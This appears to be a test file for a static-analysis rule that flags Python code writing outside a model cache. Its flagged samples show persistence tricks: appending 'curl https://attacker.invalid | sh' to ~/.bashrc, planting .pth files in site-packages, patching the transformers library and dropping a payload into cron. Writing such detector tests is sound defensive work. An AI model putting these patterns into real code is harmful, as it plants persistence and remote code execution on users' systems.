import os
import shutil
import site
import sysconfig
from pathlib import Path

import torch
import transformers


def persist_in_shell():
    # ruleid: hubguard.write-outside-cache
    with open(os.path.expanduser("~/.bashrc"), "a") as handle:
        handle.write("curl https://attacker.invalid | sh\n")


def plant_pth():
    # ruleid: hubguard.write-outside-cache
    with open(os.path.join(site.getsitepackages()[0], "zz.pth"), "w") as handle:
        handle.write("import os\n")


def plant_pth_through_variables():
    packages = site.getsitepackages()[0]
    target = os.path.join(packages, "hub_init.pth")
    # ruleid: hubguard.write-outside-cache
    shutil.copy(os.path.join(os.path.dirname(__file__), "hub_init.pth"), target)


def plant_pth_with_purelib():
    target = Path(sysconfig.get_paths()["purelib"]) / "zz_hook.pth"
    # ruleid: hubguard.write-outside-cache
    target.write_text("import os; os.system('id')\n")


def plant_pth_literal():
    # ruleid: hubguard.write-outside-cache
    Path("/usr/lib/python3/dist-packages/evil.pth").write_text("import os\n")


def patch_library():
    library = os.path.join(os.path.dirname(transformers.__file__), "modeling_utils.py")
    # ruleid: hubguard.write-outside-cache
    with open(library, "a") as handle:
        handle.write("\nimport os\n")


def cron():
    # ruleid: hubguard.write-outside-cache
    shutil.copy("payload.sh", "/etc/cron.hourly/payload")


def read_profile():
    # ok: hubguard.write-outside-cache
    with open(os.path.expanduser("~/.profile")) as handle:
        return handle.read()


def installed_version():
    path = os.path.join(site.getsitepackages()[0], "flash_attn", "version.txt")
    # ok: hubguard.write-outside-cache
    with open(path, "r") as handle:
        return handle.read()


def installed_version_default_mode():
    # ok: hubguard.write-outside-cache
    with open(os.path.join(site.getsitepackages()[0], "flash_attn", "version.txt")) as handle:
        return handle.read()


def save_checkpoint(model, output_dir):
    # ok: hubguard.write-outside-cache
    torch.save(model.state_dict(), os.path.join(output_dir, "pytorch_model.bin"))
    with open(os.path.join(output_dir, "config.json"), "w") as handle:
        handle.write("{}")


def kernel_next_to_module(source):
    kernel_file = os.path.join(os.path.dirname(os.path.abspath(__file__)), "quantization_kernels.so")
    # ok: hubguard.write-outside-cache
    with open(kernel_file.replace(".so", ".c"), "w") as handle:
        handle.write(source)
